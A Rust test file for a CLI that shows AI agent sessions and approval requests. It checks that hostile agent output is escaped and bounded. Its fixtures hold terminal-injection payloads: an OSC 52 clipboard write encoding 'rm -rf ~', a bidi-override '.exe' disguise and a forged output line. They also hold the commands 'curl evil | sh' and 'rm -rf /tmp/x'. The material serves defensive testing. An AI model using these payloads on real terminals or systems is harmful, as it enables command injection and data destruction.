//! Terminal rendering: what ctl prints, and hostile text made inert.

use super::*;

/// What a hostile agent sends: clear screen, home, a window title (OSC
/// 0), a clipboard write (OSC 52, ended by BEL), a carriage return and
/// erase-line, backspace, NUL, DEL, the 8-bit CSI, a right-to-left
/// override, and a line that pretends to be ctl's own.
pub(in crate::ctl) const HOSTILE: &str = "\u{1b}[2J\u{1b}[H\u{1b}]0;owned\u{7}\
    \u{1b}]52;c;cm0gLXJmIH4=\u{7}ok\r\u{1b}[2Kfake\u{8}\0\u{7f}\u{9b}31m\u{202e}gpj.exe\n\
    FORGED line";

/// [`HOSTILE`] up to its newline as ctl shows it: every control spelled out.
pub(in crate::ctl) const SHOWN: &str = "\\x1b[2J\\x1b[H\\x1b]0;owned\\x07\
    \\x1b]52;c;cm0gLXJmIH4=\\x07ok\\r\\x1b[2Kfake\\x08\\x00\\x7f\\u{9b}31m\\u{202e}gpj.exe";

/// No control character but the newlines, no DEL, no C1 and no bidi
/// control in `out`.
pub(in crate::ctl) fn assert_inert(out: &str) {
    for c in out.chars() {
        let code = u32::from(c);
        let control = code < 0x20 || code == 0x7f || (0x80..=0x9f).contains(&code);
        assert!(c == '\n' || !control, "control {code:#x} in {out:?}");
        let bidi = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        assert!(!bidi, "bidi control {code:#x} in {out:?}");
    }
}

/// No line of `out` is the one [`HOSTILE`] tried to forge.
pub(in crate::ctl) fn assert_no_forged_line(out: &str) {
    assert!(
        !out.lines().any(|l| l.starts_with("FORGED")),
        "forged line in {out:?}"
    );
}

/// `out` shows the whole of [`HOSTILE`] on one line, escaped.
pub(in crate::ctl) fn assert_shown_on_one_line(out: &str) {
    assert!(out.contains(&format!("{SHOWN}\\nFORGED line")), "{out}");
}

fn hostile_approval(title: &str) -> ApprovalView {
    ApprovalView {
        command: None,
        id: "s-1:req-1".into(),
        session_id: "s-1".into(),
        request_id: "req-1".into(),
        title: title.into(),
        kind: intercom_actors::model::RequestKind::FileWrite,
        diff: Some(format!("+{HOSTILE}\n")),
        paths: vec![HOSTILE.into()],
        options: vec![
            serde_json::from_value(serde_json::json!({
                "id": HOSTILE, "name": "n", "kind": "allow_once"
            }))
            .expect("option"),
        ],
        status: intercom_actors::model::RequestStatus::Pending,
        created_at: 0,
        decision: None,
    }
}

fn detail(title: &str, pending: Vec<ApprovalView>) -> SessionDetailView {
    let mut d: SessionDetailView = serde_json::from_value(serde_json::json!({
        "id": "s-1", "workspace": "demo", "agent": "scripted", "status": "active",
        "status_reason": HOSTILE, "title": title, "owner": "local", "created_at": 0,
        "updated_at": 0, "last_activity_at": 0, "restart_count": 0, "cwd": "/w",
        "protocol": "acp", "channel_id": null, "thread_ts": null,
        "approval_mode": "ask", "pending": [], "live": null
    }))
    .expect("detail");
    d.pending = pending;
    d
}

fn entry(kind: &str, content: &str) -> MessageView {
    MessageView {
        id: 1,
        role: "agent".into(),
        kind: kind.into(),
        content: content.into(),
        created_at: 0,
    }
}

#[test]
fn pending_options_say_what_each_does() {
    let mut a = hostile_approval("t");
    a.options = vec![
        serde_json::from_value(serde_json::json!({
            "id": "reject", "name": "Reject", "kind": "allow_always"
        }))
        .expect("option"),
    ];
    let out = approvals(&[a]);
    assert!(out.contains("reject (always allow)"), "{out}");
}

#[test]
fn pending_titles_options_and_paths_are_escaped() {
    let out = approvals(&[hostile_approval(HOSTILE)]);
    assert_inert(&out);
    // The title is clipped to its column, escapes included.
    assert!(out.contains("\\x1b[2J\\x1b[H\\x1b]0;owned\\x07"), "{out}");
    // Paths and options on their lines, whole.
    assert!(
        out.contains(&format!("s-1:req-1 — {SHOWN}\\nFORGED line\n")),
        "{out}"
    );
    assert_shown_on_one_line(out.lines().nth(1).unwrap_or_default());
    // The row, the files line, the diff, and the whole title below the
    // table (the column cut it), each escaped on its own line.
    assert_eq!(out.lines().filter(|l| l.contains("FORGED")).count(), 4);
    // The table is still two lines: headers and the one row.
    assert!(out.starts_with("ID "), "{out}");
    assert!(out.lines().nth(2).is_some_and(str::is_empty), "{out}");
}

#[test]
fn pending_approvals_show_the_whole_command_with_padding_counted() {
    let a = ApprovalView {
        title: "`echo ok ...` (the agent's title: Run tests)".into(),
        command: Some(format!("echo ok{}; curl evil | sh\nid", " ".repeat(300))),
        diff: None,
        paths: vec![],
        ..hostile_approval("t")
    };
    let out = approvals(&[a]);
    assert!(
        out.contains("runs: echo ok⟨300 blanks⟩; curl evil | sh\n      id\n"),
        "{out}"
    );
}

/// The agent decides a command's length: past 4,000 characters its start
/// and its end are printed, what lies between counted (a probe's was
/// 131,079 combining marks; 32 of them stalled a terminal).
#[test]
fn a_huge_command_is_cut_in_the_middle_and_counted() {
    let command = format!(
        "rm -rf /tmp/x{}; echo end-of-command",
        "\u{301}".repeat(131_079)
    );
    let a = ApprovalView {
        command: Some(command),
        diff: None,
        paths: vec![],
        ..hostile_approval("t")
    };
    let out = approvals(&[a]);
    assert!(out.contains("runs: rm -rf /tmp/x"), "{}", &out[..200]);
    assert!(out.contains("echo end-of-command\n"), "the end is shown");
    assert!(
        out.contains("… 127113 characters not shown here; GET /api/approvals/"),
        "{}",
        out.lines()
            .find(|l| l.contains("not shown"))
            .unwrap_or("none")
    );
    assert!(
        out.chars().count() < 10_000,
        "{} characters",
        out.chars().count()
    );
}

#[test]
fn show_escapes_and_bounds_its_fields() {
    let pending = ApprovalView {
        diff: None,
        ..hostile_approval(HOSTILE)
    };
    let out = session_detail(&detail(HOSTILE, vec![pending]));
    assert_inert(&out);
    assert_no_forged_line(&out);
    let title = out
        .lines()
        .find(|l| l.starts_with("title"))
        .unwrap_or_default();
    assert_shown_on_one_line(title);
    let reason = out
        .lines()
        .find(|l| l.starts_with("reason"))
        .unwrap_or_default();
    assert_shown_on_one_line(reason);
    assert!(out.contains("pending approvals:\nID "), "{out}");

    let huge = "A".repeat(500_000);
    let out = session_detail(&detail(&huge, vec![]));
    let title = out
        .lines()
        .find(|l| l.starts_with("title"))
        .unwrap_or_default();
    let shown = format!(
        "{}…({} more bytes)",
        "A".repeat(FIELD_MAX),
        500_000 - FIELD_MAX
    );
    assert_eq!(title, format!("title      {shown}"));
}

#[test]
fn log_text_keeps_its_lines_and_escapes_the_rest() {
    for kind in ["text", "thought", "error"] {
        let out = message(&entry(kind, HOSTILE));
        assert_inert(&out);
        assert_no_forged_line(&out);
        assert!(out.contains(SHOWN), "{out}");
        // The newline is the agent's own: kept, the line indented and
        // marked as the entry's continuation.
        assert!(out.ends_with(&format!("gpj.exe\n{}| FORGED line\n", " ".repeat(14))));
    }
}

#[test]
fn log_tool_lines_and_plans_keep_each_title_on_its_line() {
    let tool = serde_json::json!({"title": HOSTILE, "status": HOSTILE}).to_string();
    let out = message(&entry("tool", &tool));
    assert_inert(&out);
    assert_no_forged_line(&out);
    assert_eq!(out.lines().count(), 1, "{out}");
    assert!(
        out.contains(&format!("tool {SHOWN}\\nFORGED line [{SHOWN}")),
        "{out}"
    );
    let plan = serde_json::json!([{"content": HOSTILE, "status": HOSTILE}]).to_string();
    let out = message(&entry("plan", &plan));
    assert_inert(&out);
    assert_no_forged_line(&out);
    assert_eq!(out.lines().count(), 2, "{out}");
    assert_shown_on_one_line(out.lines().nth(1).unwrap_or_default());
    for not_json in ["tool", "plan"] {
        let out = message(&entry(not_json, HOSTILE));
        assert_inert(&out);
        assert_eq!(out.lines().count(), 1, "{out}");
        assert_shown_on_one_line(&out);
    }
}

#[test]
fn ordinary_text_is_shown_as_before() {
    let text = "Héllo\twörld — 日本語 👨‍👩‍👧 «ok» C:\\path\\x1b";
    assert_eq!(printable(text), text);
    assert_eq!(one_line("a\tb"), "a b");
    let out = message(&entry("text", "first\nsecond"));
    assert_eq!(out, "00:00:00 agent  first\n              | second\n");
}

#[test]
fn every_control_and_disguise_is_spelled_out() {
    assert_eq!(
        printable("a\u{1}\u{1f}\u{7f}\u{80}\u{9f}b"),
        "a\\x01\\x1f\\x7f\\u{80}\\u{9f}b"
    );
    let disguises = "\u{ad}\u{61c}\u{200b}\u{200e}\u{200f}\u{2028}\u{2029}\u{202a}\u{2066}\u{2069}\u{feff}\u{e0041}";
    assert_eq!(
        printable(disguises),
        "\\u{ad}\\u{61c}\\u{200b}\\u{200e}\\u{200f}\\u{2028}\\u{2029}\\u{202a}\\u{2066}\\u{2069}\\u{feff}\\u{e0041}"
    );
    assert_eq!(printable("a\r\nb"), "a\\r\nb");
    assert_eq!(one_line("a\r\nb"), "a\\r\\nb");
}

#[test]
fn json_keeps_its_value_and_loses_its_controls() {
    let value = serde_json::json!({"title": HOSTILE, "n": [1, "\u{e0041}"]});
    let raw = value.to_string();
    let safe = json_safe(&raw);
    assert_inert(&safe);
    assert!(safe.contains("\\u009b31m\\u202egpj.exe"), "{safe}");
    assert!(safe.contains("\\udb40\\udc41"), "{safe}");
    let back: Value = serde_json::from_str(&safe).expect("still JSON");
    assert_eq!(back, value);
    assert_eq!(json_safe("{\"a\": \"ok\"}"), "{\"a\": \"ok\"}");
}

#[test]
fn bounded_fields_say_how_much_was_cut() {
    assert_eq!(bounded("abcdef", 6), "abcdef");
    assert_eq!(bounded("abcdef", 4), "abcd…(2 more bytes)");
    // A stand-in is never cut in half.
    assert_eq!(bounded("ab\u{1b}c", 4), "ab…(2 more bytes)");
}

#[test]
fn show_names_the_approval_mode() {
    let d: SessionDetailView = serde_json::from_value(serde_json::json!({
        "id": "s-1", "workspace": "demo", "agent": "scripted", "status": "active",
        "status_reason": null, "title": "t", "owner": "local", "created_at": 0,
        "updated_at": 0, "last_activity_at": 0, "restart_count": 0, "cwd": "/w",
        "protocol": "acp", "channel_id": null, "thread_ts": null,
        "approval_mode": "auto-edits", "pending": [], "live": null
    }))
    .expect("detail");
    assert!(
        session_detail(&d).contains("mode       auto-edits\n"),
        "{}",
        session_detail(&d)
    );
}

/// A paused session says so (the API had `live.paused`; `ctl show` only
/// showed a queue that never moved).
#[test]
fn show_says_when_a_session_is_paused() {
    let mut d = detail("t", vec![]);
    let live = |paused: bool| {
        serde_json::from_value(serde_json::json!({
            "turn_running": false, "paused": paused, "queued_prompts": 1, "agent_pid": 7
        }))
        .expect("live")
    };
    d.live = Some(live(true));
    let out = session_detail(&d);
    assert!(
        out.contains("paused     yes: steering is held until `ctl resume s-1`\n"),
        "{out}"
    );
    d.live = Some(live(false));
    assert!(!session_detail(&d).contains("paused"));
}

/// Ended sessions say why, and whether a revive can bring them back: a
/// probe could not tell a shutdown (revivable) from an operator's stop.
#[test]
fn sessions_show_why_an_ended_one_ended() {
    let view = |id: &str, status: &str, reason: Option<&str>, revivable: bool| -> SessionView {
        serde_json::from_value(serde_json::json!({
            "id": id, "workspace": "demo", "agent": "scripted", "status": status,
            "status_reason": reason, "title": "t", "owner": "local", "created_at": 0,
            "updated_at": 0, "last_activity_at": 0, "restart_count": 0, "cwd": "/w",
            "protocol": "acp", "channel_id": null, "thread_ts": null, "revivable": revivable
        }))
        .expect("view")
    };
    let live = sessions(&[view("s-1", "active", None, false)]);
    assert!(!live.contains("REASON"), "{live}");
    let all = sessions(&[
        view("s-1", "active", None, false),
        view("s-2", "cancelled", Some("server_shutdown"), true),
        view("s-3", "cancelled", Some("stopped by local"), false),
    ]);
    assert!(all.contains("REASON"), "{all}");
    assert!(all.contains("server_shutdown (revivable)"), "{all}");
    assert!(all.contains("stopped by local"), "{all}");
}

#[test]
fn tables_align_columns() {
    let t = table(
        &["A", "BB"],
        &[vec!["xxx".into(), "y".into()], vec!["z".into(), "".into()]],
    );
    assert_eq!(t, "A    BB\nxxx  y\nz\n");
}

#[test]
fn utc_dates() {
    assert_eq!(utc(0), "1970-01-01 00:00:00");
    assert_eq!(utc(951_782_400_000), "2000-02-29 00:00:00");
    assert_eq!(utc(1_735_689_599_000), "2024-12-31 23:59:59");
}

#[test]
fn relative_times() {
    assert_eq!(ago(0, 59_000), "59s ago");
    assert_eq!(ago(0, 120_000), "2m ago");
    assert_eq!(ago(0, 7_200_000), "2h ago");
    assert_eq!(ago(10, 0), "0s ago");
}

#[test]
fn clipping() {
    assert_eq!(clip("a\nb", 10), "a\\nb");
    assert_eq!(clip("a\tb", 10), "a b");
    assert_eq!(clip("abcdef", 4), "abc…");
    assert_eq!(clip("ab\u{1b}[2J", 4), "ab…");
    assert_inert(&clip(HOSTILE, 40));
}

#[test]
fn pending_approvals_show_their_files_and_diff_without_escapes() {
    let a = ApprovalView {
        command: None,
        id: "s-1:req-1".into(),
        session_id: "s-1".into(),
        request_id: "req-1".into(),
        title: "Write hello.txt".into(),
        kind: intercom_actors::model::RequestKind::Permission,
        diff: Some("--- /dev/null\n+++ b/hello.txt\n+hi \u{1b}[2J\n".into()),
        paths: vec!["hello.txt".into()],
        options: vec![],
        status: intercom_actors::model::RequestStatus::Pending,
        created_at: 0,
        decision: None,
    };
    let out = approvals(&[a]);
    assert!(
        out.contains("s-1:req-1 — hello.txt\n--- /dev/null\n+++ b/hello.txt\n"),
        "{out}"
    );
    assert!(!out.contains('\u{1b}'), "{out}");
}

#[test]
fn a_huge_diff_shows_its_start_and_says_where_the_rest_is() {
    let huge: String = (0..100_000).map(|i| format!("+line {i}\n")).collect();
    let a = ApprovalView {
        command: None,
        id: "s-1:req-1".into(),
        session_id: "s-1".into(),
        request_id: "req-1".into(),
        title: "Write big.txt".into(),
        kind: intercom_actors::model::RequestKind::Permission,
        diff: Some(huge),
        paths: vec!["big.txt".into()],
        options: vec![],
        status: intercom_actors::model::RequestStatus::Pending,
        created_at: 0,
        decision: None,
    };
    let out = approvals(&[a]);
    assert!(out.len() < 80 * 1024, "{} bytes", out.len());
    assert!(
        out.contains("+line 0\n") && out.contains("+line 399\n"),
        "the start"
    );
    assert!(!out.contains("+line 400\n"), "past the bound");
    assert!(
        out.contains("… 99600 more lines of this diff not shown; the whole diff: `ctl pending --json` or GET /api/approvals/s-1:req-1"),
        "{out:.200}"
    );
    // One endless line is cut too.
    let endless = "x".repeat(1 << 20);
    let (start, left) = diff_start(&endless);
    assert_eq!((start.len(), left), (64 * 1024, 1));
}

#[test]
fn tool_and_plan_entries_are_summarised() {
    let tool = MessageView {
        id: 1,
        role: "system".into(),
        kind: "tool".into(),
        content: r#"{"id":"t1","title":"Write x","status":"completed"}"#.into(),
        created_at: 0,
    };
    assert!(message(&tool).contains("tool Write x [completed]"));
    let plan = MessageView {
        kind: "plan".into(),
        content: r#"[{"content":"a","status":"pending"}]"#.into(),
        ..tool
    };
    assert!(message(&plan).contains("[pending] a"));
}

#[test]
fn an_empty_diff_is_said_to_change_nothing() {
    let a = ApprovalView {
        title: "Write hello.txt".into(),
        command: None,
        diff: Some(String::new()),
        paths: vec!["hello.txt".into()],
        ..hostile_approval("t")
    };
    let out = approvals(&[a]);
    assert!(
        out.contains(" — hello.txt\n(the diff is empty: it changes nothing in these files)\n"),
        "{out}"
    );
}

#[test]
fn a_long_reason_keeps_its_end() {
    let reason = format!(
        "agent exited unexpectedly (exit code 7); stderr: {} panic: scripted crash (gave up after 3 restarts within 600 s)",
        "initialize: clientCapabilities {...}\n".repeat(20)
    );
    let shown = head_and_tail(&reason, FIELD_MAX);
    assert!(shown.starts_with("agent exited unexpectedly"), "{shown}");
    assert!(
        shown.ends_with("(gave up after 3 restarts within 600 s)"),
        "{shown}"
    );
    assert!(shown.contains("characters)…"), "{shown}");
    assert!(!shown.contains('\n'), "{shown}");
    assert_eq!(head_and_tail("short", FIELD_MAX), "short");
    // An agent's stderr in the reason, long and hostile: cut by characters,
    // so no escape sequence is split, and nothing reaches the terminal raw.
    let hostile = head_and_tail(&HOSTILE.repeat(50), FIELD_MAX);
    assert_inert(&hostile);
    assert_shown_on_one_line(&hostile);
}

#[test]
fn show_says_a_revivable_session_can_be_revived() {
    let mut d = detail("t", vec![]);
    assert!(!session_detail(&d).contains("revive"));
    d.session.status = intercom_actors::model::SessionStatus::Crashed;
    d.session.revivable = true;
    assert!(
        session_detail(&d).contains("revive     possible: ctl revive s-1\n"),
        "{}",
        session_detail(&d)
    );
}

/// A title the table cuts is printed whole below it: the end of "Write
/// big.txt (its change is not shown: …)" was cut off at 40 characters.
#[test]
fn a_title_cut_in_the_table_is_printed_whole_below_it() {
    let mut a = hostile_approval(
        "Write big.txt (its change is not shown: the agent's announcement of it was over limits.max_line_bytes)",
    );
    a.paths.clear();
    a.diff = None;
    let out = approvals(&[a]);
    assert!(
        out.contains("title: Write big.txt (its change is not shown: the agent's announcement of it was over limits.max_line_bytes)"),
        "{out}"
    );
    let short = approvals(&[{
        let mut b = hostile_approval("Edit a.rs");
        b.paths.clear();
        b.diff = None;
        b
    }]);
    assert!(!short.contains("title:"), "{short}");
}

#[test]
fn workspaces_and_agents_print_as_tables_with_the_default_marked() {
    let ws = WorkspaceView {
        id: "demo".into(),
        path: "/srv/demo".into(),
        label: None,
        agent: Some("claude".into()),
        approval_mode: "auto-edits".into(),
        channel_id: None,
    };
    let out = workspaces(&[ws]);
    assert_eq!(
        out,
        "ID    MODE        AGENT   CHANNEL  PATH\ndemo  auto-edits  claude  -        /srv/demo\n"
    );
    let agent = |id: &str, default| AgentView {
        id: id.into(),
        command: format!("/usr/bin/{id}"),
        protocol: "acp".into(),
        default,
    };
    let out = agents(&[agent("claude", true), agent("gemini\u{1b}[2J", false)]);
    assert!(out.contains("claude (default)  acp"), "{out}");
    assert!(!out.contains('\u{1b}'), "{out}");
    assert_eq!(workspaces(&[]).lines().count(), 1);
}
